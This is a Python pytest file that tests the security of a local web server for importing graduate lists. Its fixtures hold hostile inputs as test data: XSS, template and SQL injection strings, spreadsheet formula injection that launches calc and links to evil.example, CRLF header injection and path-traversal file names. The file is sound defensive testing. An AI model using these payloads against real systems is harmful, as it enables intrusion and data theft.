"""What a server on one's own machine refuses, line by line; what a shared one refuses besides
stands in test_page_shared.py.
"""

import ast
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import anyio
import httpx
import pytest
import sqlalchemy as sa
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Mount, Route

import importer
from helpers.pdf_bytes import one_page_pdf
from importer import __version__
from importer.web.answering import answering
from importer.web.application import application
from importer.web.guard import LARGEST
from importer.web.lists import GraduateList
from importer.web.rendering import PROGRAM
from importer.web.tables import APPROVALS, AUDIT, CHANGES, LISTS, RUNS
from importer.web.visit import Visit
from importer.web.visitors import Alone
from web.pages_under_test import NOBODY, ORIGIN, Pages, words

WEB = Path(importer.__file__).parent / "web"
HOST = ORIGIN.partition("//")[2]
MARK = "Zqx7"
"""Stands in every hostile cell, so that it is found wherever it comes out."""
NAUGHTY = (
    f'<img src=x onerror=alert("{MARK}")>',
    f"</td></table><script>alert('{MARK}')</script>",
    f'" onmouseover="alert(1)" x="{MARK}',
    f"' autofocus onfocus='alert(1)' x='{MARK}",
    f"{{{{7*7}}}}{MARK}${{7*7}}#{{7*7}}<%= 7*7 %>",
    f'=HYPERLINK("http://evil.example/{MARK}","click")',
    f"=cmd|'/c calc'!A1 {MARK}",
    f"javascript:alert('{MARK}')",
    f"Ana \u202eevitaN{MARK}\u2066\u200b",
    f"&lt;b&gt;{MARK}&amp;&#60;i&#62;",
    f"<!--{MARK}--><style>*{{display:none}}</style><base href=//evil.example>",
    f"../../{MARK}/..%2f\\..\\{MARK}\x00\x1b[2J\r\nSet-Cookie: x={MARK}",
    f"Robert'); DROP TABLE lists;--{MARK}",
    f"{MARK}" + "\u0300" * 40 + "𝕬𝖓𝖆 ﷽ ZALGO",
)
UNSAFE = ("POST", "PUT", "PATCH", "DELETE")


@pytest.fixture
def hostile(page: Pages, tmp_path: Path) -> GraduateList:
    """A list whose cells, headings, file names and sheet want the worst."""
    return _brought(page, tmp_path, NAUGHTY)


def _brought(page: Pages, folder: Path, names: Sequence[str]) -> GraduateList:
    (folder / "pdfs").mkdir()
    rows = []
    for at, name in enumerate(names):
        file = f"&lt;img src=x onerror=alert({at})&gt;' {{{{7+7}}}} {MARK}{at}.pdf"
        (folder / "pdfs" / file).write_bytes(one_page_pdf(f"{MARK} {at}"))
        email = f"{MARK.lower()}{at}@school.example" if at % 2 else f"<i>{MARK}@x"
        cell = name.replace('"', '""')
        rows.append(f'"{cell}","{email}",2001-04-0{at % 9 + 1},"{cell}","{file}"')
    sheet = folder / f"&lt;b onclick=alert(1)&gt;' {MARK}.csv"
    heading = f"<u>{MARK}</u>"
    sheet.write_text("\n".join([f"Name,E-mail,Date of birth,{heading},PDF", *rows]), "utf-8")
    return page.list_of(sheet, folder / "pdfs")


def _paths(app: Any, graduates: GraduateList | None = None, method: str = "GET") -> list[str]:
    """Every address of the page that is asked for so, of a list."""
    known = {"list_id": graduates.list_id if graduates else "abcdefghjk"}
    found = []
    for route in app.routes:
        if isinstance(route, Mount):
            found.append(f"{route.path}/page.css")
        elif isinstance(route, Route) and method in (route.methods or ()):
            found.append(re.sub(r"{(\w+)[^}]*}", lambda one: known.get(one[1], "1"), route.path))
    return found


def _raw(app: Any, method: str, path: str, headers: Sequence[tuple[str, str]]) -> httpx.Response:
    """A request with these headers and no others."""
    got: list[Any] = []
    scope = {
        "type": "http",
        "http_version": "1.1",
        "method": method,
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "scheme": "http",
        "root_path": "",
        "headers": [(name.encode(), value.encode("latin-1")) for name, value in headers],
        "client": ("127.0.0.1", 9),
        "server": ("127.0.0.1", 1),
        "state": {},
    }

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        got.append(message)

    anyio.run(app, scope, receive, send)
    body = b"".join(one.get("body", b"") for one in got)
    return httpx.Response(got[0]["status"], headers=got[0]["headers"], content=body)


# 2 The link


def test_a_link_lets_one_browser_in_once(page: Pages) -> None:
    """The key is worth nothing afterwards, and is not what the cookie holds."""
    doors = Alone(8123)
    key = doors.new_key()
    app = application(_office_with(page, doors), origins=[ORIGIN])
    first = _raw(app, "GET", "/enter", [("host", HOST)])
    assert first.headers["location"] == "/"
    assert "set-cookie" not in first.headers

    async def enter() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url=ORIGIN) as client:
            return await client.get("/enter", params={"key": key})

    came = anyio.run(enter)
    assert came.status_code == 303
    assert came.headers["location"] == "/", "the key is not in the address any more"
    told = came.headers["set-cookie"]
    name, _, rest = told.partition("=")
    assert name == "importer_8123", "cookies do not know ports"
    assert {one.strip().lower() for one in rest.split(";")[1:]} == {
        "httponly",
        "path=/",
        "samesite=strict",
    }
    assert len(rest.partition(";")[0]) >= 43
    assert key not in told
    second = anyio.run(enter)
    assert "set-cookie" not in second.headers
    stranger = _raw(app, "GET", "/", [("host", HOST)])
    assert stranger.status_code == 401
    assert "This link was used already" in stranger.text
    assert "Start the program again, or copy the new link" in stranger.text


def _office_with(page: Pages, doors: Any) -> Any:
    from dataclasses import replace

    return replace(page.office, doors=doors)


# 3 The host


@pytest.mark.parametrize(
    "host",
    [
        None,
        "",
        "evil.example",
        f"{HOST}.evil.example",
        f"{HOST.partition(':')[0]}.evil.example:1",
        f"evil.example@{HOST}",
        "127.0.0.1",
        "127.0.0.1:2",
        "127.0.0.1:01",
        "localhost:1",
        "[::1]:1",
        "0.0.0.0:1",
        "127.0.0.1:1, evil.example",
        "127.0.0.1:1/",
        "127.1:1",
        "2130706433:1",
    ],
)
def test_whoever_calls_us_by_another_name_is_refused(page: Pages, host: str | None) -> None:
    """On every path, static ones too, before anything else: names that lead here are no ours."""
    app = page._app
    headers = [] if host is None else [("host", host)]
    for path in ("/", "/static/page.css", "/enter", "/nowhere"):
        answer = _raw(app, "GET", path, headers)
        assert answer.status_code == 400, path
        assert "evil.example" not in answer.text
        assert answer.headers["content-security-policy"]


def test_two_hosts_are_none(page: Pages) -> None:
    """Whoever stands between may take one, and we the other."""
    told = [("host", "evil.example"), ("host", HOST)]
    assert _raw(page._app, "GET", "/", told).status_code == 400
    assert _raw(page._app, "GET", "/", told[::-1]).status_code == 400


def test_our_own_name_is_let_in_however_its_letters_are_written(page: Pages) -> None:
    """A stranger still."""
    assert _raw(page._app, "GET", "/", [("host", HOST.upper())]).status_code == 401


# 4 Who asks for what changes something

_FOREIGN = [
    [],
    [("origin", "http://evil.example")],
    [("origin", "null")],
    [("origin", f"{ORIGIN}.evil.example")],
    [("origin", "http://127.0.0.1:2")],
    [("origin", "https://127.0.0.1:1")],
    [("referer", f"{ORIGIN}/")],
    [("sec-fetch-site", "cross-site")],
    [("sec-fetch-site", "cross-site"), ("origin", ORIGIN)],
    [("sec-fetch-site", "same-site"), ("origin", ORIGIN)],
    [("sec-fetch-site", "none"), ("origin", ORIGIN)],
    [("sec-fetch-site", ""), ("origin", ORIGIN)],
    [("sec-fetch-site", "same-origin"), ("origin", "http://evil.example")],
    [("sec-fetch-site", "same-origin"), ("sec-fetch-site", "cross-site")],
    [("origin", ORIGIN), ("origin", "http://evil.example")],
]
_OURS = [
    [("origin", ORIGIN)],
    [("sec-fetch-site", "same-origin")],
    [("sec-fetch-site", "same-origin"), ("origin", ORIGIN)],
]


@pytest.mark.parametrize("headers", _FOREIGN, ids=str)
def test_no_other_page_changes_anything(page: Pages, headers: list[tuple[str, str]]) -> None:
    """Whatever it asks for, in whatever way, also with the cookie of somebody who is known."""
    known = [("host", HOST), ("x-person", "Rui"), *headers]
    paths = {path for method in ("GET", *UNSAFE) for path in _paths(page._app, method=method)}
    for path in sorted(paths):
        for method in UNSAFE:
            answer = _raw(page._app, method, path, known)
            assert answer.status_code == 403, (method, path)
            assert answer.text == "Another page has asked for this, so nothing was done."


@pytest.mark.parametrize("headers", _OURS, ids=str)
def test_our_own_pages_are_let_through(page: Pages, headers: list[tuple[str, str]]) -> None:
    """As browsers say it, in one header or the other."""
    answer = _raw(page._app, "POST", "/language", [("host", HOST), ("x-person", "Rui"), *headers])
    assert answer.status_code == 303


def test_nothing_that_is_only_looked_at_changes_anything(
    page: Pages, hostile: GraduateList
) -> None:
    """Every address by GET and HEAD, twice."""

    def kept() -> list[Any]:
        tables = (LISTS, CHANGES, RUNS, APPROVALS, AUDIT)
        return [page.office.store.read(sa.select(one)) for one in tables]

    page.get(f"/lists/{hostile.list_id}/")
    before = kept()
    for path in _paths(page._app, hostile) * 2:
        page.ask("GET", path)
        page.ask("HEAD", path)
    assert kept() == before


def test_nobody_is_invited_by_cors(page: Pages) -> None:
    """A browser that asks beforehand is refused."""
    ask = [("host", HOST), ("origin", "http://evil.example")]
    ask += [("access-control-request-method", "POST")]
    answer = _raw(page._app, "OPTIONS", "/lists", ask)
    assert answer.status_code == 403
    assert not [name for name in answer.headers if name.startswith("access-control")]


# 5 What a browser may do with our pages


def test_every_answer_tells_a_browser_what_it_may_do_with_it(
    page: Pages, hostile: GraduateList
) -> None:
    """Also refusals, errors and what does not change."""

    def breaks(visit: Visit) -> Response:
        raise RuntimeError(MARK)

    page._app.router.routes.append(Route("/breaks", answering(breaks)))
    answers = [page.ask("GET", path) for path in _paths(page._app, hostile)]
    answers += [
        page.ask("GET", "/nowhere"),
        page.ask("GET", "/static/nowhere"),
        page.by("").ask("GET", "/"),
        page.ask("GET", "/", headers={"host": "evil.example"}),
        page.ask("POST", "/lists", headers={"origin": "http://evil.example"}),
        page.ask("POST", "/"),
        page.ask("POST", "/lists", headers={"content-length": str(LARGEST + 1)}),
        page.post("/lists", school="own"),
    ]
    assert {one.status_code for one in answers} >= {200, 303, 400, 401, 403, 404, 405, 413, 500}
    for one in answers:
        policy = one.headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'")
        assert "unsafe" not in policy
        for part in ("form-action 'self'", "base-uri 'none'", "frame-ancestors 'none'"):
            assert part in policy
        assert one.headers["x-content-type-options"] == "nosniff"
        assert one.headers["referrer-policy"] == "same-origin"
        assert one.headers["cross-origin-opener-policy"] == "same-origin"
        assert one.headers["cross-origin-resource-policy"] == "same-origin"
        assert "server" not in one.headers
        assert "x-powered-by" not in one.headers
        static = one.url.path.startswith("/static/")
        assert static or one.headers["cache-control"] == "no-store"
        assert "strict-transport-security" not in one.headers, "of a page without TLS"


def test_no_template_holds_a_script_or_a_style_or_what_browsers_run() -> None:
    """The policy would stop it; it is not written to begin with."""
    forbidden = (
        r"<script(?![^>]*\bsrc=)",
        r"<style\b",
        r"\sstyle\s*=",
        r"\son[a-z]+\s*=",
        r"javascript:",
        r"\|\s*safe\b",
        r"autoescape",
        r"(?:src|href|action)\s*=\s*[\"']?(?:https?:)?//",
        r"\s[\w-]+=\s*{{",
    )
    found = [
        (path.name, pattern)
        for path in sorted((WEB / "templates").rglob("*.html"))
        for pattern in forbidden
        if re.search(pattern, path.read_text("utf-8"))
    ]
    assert not found


def test_no_script_makes_pages_out_of_text() -> None:
    """What comes from the server as a page is one already; what people have typed stays text."""
    forbidden = ("eval(", "new Function", "document.write", "javascript:", "http://", "https://")
    for path in (WEB / "static").glob("*.js"):
        text = path.read_text("utf-8")
        assert not [one for one in forbidden if one in text], path.name


# 6 Cells are hostile


class _Seen(HTMLParser):
    """The elements of a page, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _strange(answer: httpx.Response) -> list[str]:
    """Headers with something that somebody has typed; a download's own name may be, encoded."""
    named = re.compile(r"attachment; filename=\"[\w.-]+\"; filename\*=UTF-8''[\w.%~-]+")
    return [
        value
        for name, value in answer.headers.items()
        if MARK in value and not (name == "content-disposition" and named.fullmatch(value))
    ]


_SHOWN = ("value", "data-", "title", "aria-label", "alt", "placeholder", "content")
"""Attributes in which text may stand."""


def test_what_people_have_typed_is_text_on_every_page(page: Pages, hostile: GraduateList) -> None:
    """It makes no element, no attribute that browsers run, no address, no name of anything."""
    met = 0
    for path in _paths(page._app, hostile):
        answer = page.get(path)
        if "text/html" not in answer.headers.get("content-type", ""):
            assert not _strange(answer), path
            continue
        seen = _Seen()
        seen.feed(answer.text)
        assert not seen.comments, path
        for tag, attributes in seen.elements:
            assert tag not in ("style", "base", "iframe", "object", "embed", "u", "i", "b"), path
            if tag == "img":
                assert attributes["src"].startswith("/"), path
            if tag == "script":
                assert attributes["src"].startswith("/static/"), path
            for name, value in attributes.items():
                assert not name.startswith("on"), (path, tag, name)
                assert MARK.lower() not in name, (path, name)
                if MARK.lower() in value.lower():
                    assert name.startswith(_SHOWN), (path, tag, name)
                if name in ("href", "src", "action", "formaction"):
                    assert value.startswith(("/", "#", "?")), (path, value)
                    assert not value.startswith("//"), (path, value)
        text = "".join(seen.text)
        met += text.count(MARK)
        assert not {"\u202e", "\u2066", "\x00", "\x1b"} & set(text), path
        assert "49" not in re.findall(rf"(\d+){MARK}", text), path
        assert not _strange(answer), path
    assert met >= len(NAUGHTY), "the cells were shown"


def test_a_cell_of_a_megabyte_is_borne(page: Pages, tmp_path: Path) -> None:
    """And shown once: in the field in which it is corrected."""
    graduates = _brought(page, tmp_path, ["<b>" + "A" * 1_000_000, "Ana Sousa"])
    for path in _paths(page._app, graduates):
        answer = page.get(path)
        assert answer.status_code < 500, path
        assert len(answer.content) < 1_100_000, path


# 7 File names are data


def test_no_file_name_leads_out_of_a_list(page: Pages, tmp_path: Path) -> None:
    """However it is written, by the form and by the script."""
    made = page.post("/lists", school="own")
    place = made.headers["location"].rpartition("/")[0]
    before = {one for one in tmp_path.rglob("*") if one.is_file()}
    names = [
        "../../../out.pdf",
        "..\\..\\out.pdf",
        "/etc/out.pdf",
        "C:\\out.pdf",
        "a/../../out.pdf",
    ]
    names += ["~/out.pdf", "con.pdf", "x" * 300 + ".pdf", "out.pdf:stream", "..pdf", ".", ".."]
    for name in names:
        files = [("files", (name, one_page_pdf(name)))]
        answer = page.ask("POST", f"{place}/files", files=files)
        assert answer.status_code < 500, name
        told = {"files": [{"path": name, "size": 10, "time": 1}]}
        announced = page.ask("POST", f"{place}/files/announce", json=told)
        assert announced.status_code < 500, name
    root = page.again(place.rpartition("/")[2]).root
    after = {one for one in tmp_path.rglob("*") if one.is_file()} - before
    assert all(root in one.parents or "sqlite" in one.name for one in after), after
    assert not list(Path("/etc").glob("out.pdf*"))


# 8 Limits


def test_a_request_that_is_too_large_is_told_in_the_language_of_its_reader(page: Pages) -> None:
    """By what it announces, before it is read."""
    page.language = "pt_PT"
    answer = page.ask("POST", "/lists", headers={"content-length": str(LARGEST + 1)})
    assert answer.status_code == 413
    assert '<html lang="pt-PT">' in answer.text
    for wrong in ("-1", "x", "1e9", "0x10", "١"):
        headers = [("host", HOST), ("origin", ORIGIN)]
        headers += [("content-length", wrong.encode().decode("latin-1"))]
        assert _raw(page._app, "POST", "/lists", headers).status_code == 413


def test_a_request_without_an_end_is_ended(page: Pages) -> None:
    """Where it becomes too large; it is not kept until then."""
    given = 0

    async def endless() -> Any:
        nonlocal given
        while True:
            given += 1 << 20
            yield b"x" * (1 << 20)

    headers = {"content-type": "application/x-www-form-urlencoded"}
    answer = page.ask("POST", "/language", content=endless(), headers=headers)
    assert answer.status_code in (400, 413), "as a field, or as a request"
    assert given <= LARGEST + (2 << 20)
    files = {"content-type": "multipart/form-data; boundary=b"}
    assert page.ask("POST", "/language", content=endless(), headers=files).status_code in (
        400,
        413,
    )


def test_a_form_with_very_many_fields_is_refused(page: Pages) -> None:
    """Rather than held."""
    body = "&".join(f"f{at}=1" for at in range(3_000))
    headers = {"content-type": "application/x-www-form-urlencoded"}
    assert page.ask("POST", "/language", content=body, headers=headers).status_code == 400


# 9 What takes readers down is read elsewhere


def test_the_server_opens_no_workbook_and_no_pdf_itself() -> None:
    """They are read in processes of their own, with bounds; see tests/workbooks and tests/pdfs."""
    found = [
        (path.name, name)
        for path in WEB.rglob("*.py")
        for name in re.findall(r"^\s*(?:import|from) (\w+)", path.read_text("utf-8"), re.MULTILINE)
        if name in ("pypdfium2", "openpyxl", "lxml", "olefile", "zipfile", "pickle", "PIL")
    ]
    assert not found


# 10 Nothing is told that nobody has to know


def test_a_mistake_is_told_without_what_it_was_about(
    page: Pages, caplog: pytest.LogCaptureFixture
) -> None:
    """The log names the place in the program; neither form, address nor what the error says."""

    def breaks(visit: Visit) -> Response:
        raise RuntimeError(f"{MARK} of {visit.form.get('name')}")

    async def later(request: Request) -> Response:
        raise KeyError(MARK)

    page._app.router.routes += [
        Route("/breaks", answering(breaks), methods=["POST"]),
        Route("/later", later),
    ]
    answer = page.post(f"/breaks?{MARK}=1", name=MARK)
    assert answer.status_code == 500
    assert page.get(f"/later?name={MARK}").status_code == 500
    for text in (answer.text, caplog.text):
        assert MARK not in text
        assert "Traceback (most" not in text
    assert "RuntimeError" in caplog.text
    assert "test_page_security.py" in caplog.text


def test_no_answer_tells_a_version_or_describes_the_program(page: Pages) -> None:
    """There is no description to be fetched, and no secret of the settings anywhere."""
    for path in (
        "/docs",
        "/redoc",
        "/openapi.json",
        "/.env",
        "/page.json",
        "/static/../tables.py",
    ):
        answer = page.get(path)
        assert answer.status_code == 404, path
        assert __version__ not in answer.text
        assert "tarlette" not in answer.text
    assert page.get("/static/").status_code == 404, "no list of files"
    for path in _paths(page._app):
        assert NOBODY.email not in page.get(path).text


def test_a_stranger_learns_nothing(page: Pages, hostile: GraduateList) -> None:
    """Neither what there is nor what there is not."""
    stranger = page.by("")
    for path in _paths(page._app, hostile):
        if path.startswith("/static/"):
            continue
        answer = stranger.ask("GET", path)
        assert answer.status_code == 401, path
        assert MARK not in answer.text
        assert 'name="program"' not in answer.text
    for path in _paths(page._app, hostile, "POST"):
        if path.startswith("/static/"):
            continue
        assert stranger.ask("POST", path).status_code == 401, path


def test_secrets_are_compared_in_a_time_that_tells_nothing() -> None:
    """By what is made for it, or by looking up their hash."""
    found = []
    for path in WEB.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Compare) and isinstance(node.ops[0], ast.Eq | ast.NotEq):
                text = ast.unparse(node)
                text = text.replace("hashed(secret)", "")  # in the database, by its hash
                if re.search(r"secret|authorization|proof|password(?!_)|cookie", text):
                    found.append((path.name, text))
    assert not found


def test_nothing_is_refused_by_what_python_may_leave_out() -> None:
    """`python -O` leaves out asserts."""
    for name in ("guard", "visitors", "sessions", "shared", "people", "tries", "quotas", "visit"):
        tree = ast.parse((WEB / f"{name}.py").read_text("utf-8"))
        assert not [node for node in ast.walk(tree) if isinstance(node, ast.Assert)], name


# A page that is older than the program


def test_every_form_tells_which_program_has_made_its_page(
    page: Pages, hostile: GraduateList
) -> None:
    """One that another program has made is not done, and leads to where it was."""
    for path in _paths(page._app, hostile):
        shown = page.get(path)
        if "text/html" in shown.headers.get("content-type", "") and shown.status_code == 200:
            forms = re.findall(r'<form[^>]*method="post"[^>]*>(.*?)</form>', shown.text, re.DOTALL)
            assert all(f'name="program" value="{PROGRAM}"' in one for one in forms), path
            assert f'<meta name="program" content="{PROGRAM}">' in shown.text
    stale = page.ask(
        "POST",
        "/language",
        data={"language": "es", "program": "another"},
        headers={"referer": f"{ORIGIN}/lists/x/files"},
    )
    assert stale.status_code == 409
    assert "This page is older than the program" in words(stale)
    assert 'href="/lists/x/files">Load it again' in stale.text
    assert "set-cookie" not in stale.headers
    script = page.ask("POST", "/language", headers={"x-program": "another"})
    assert script.status_code == 409
    assert page.post("/language", language="es", program=PROGRAM).status_code == 303


@pytest.mark.in_a_file
def test_files_of_the_page_are_nobody_elses(page: Pages, hostile: GraduateList) -> None:
    """Lists, and what is kept of them, with the rights of one."""
    assert (page.office.state / "page.sqlite3").stat().st_mode & 0o077 == 0
    assert (page.office.state / "lists").stat().st_mode & 0o077 == 0


def test_text_is_escaped_where_a_page_says_what_somebody_has_sent(page: Pages) -> None:
    """In addresses too."""
    answer = page.get("/lists/<img src=x onerror=alert(1)>/files")
    assert answer.status_code == 404
    assert "<img" not in answer.text
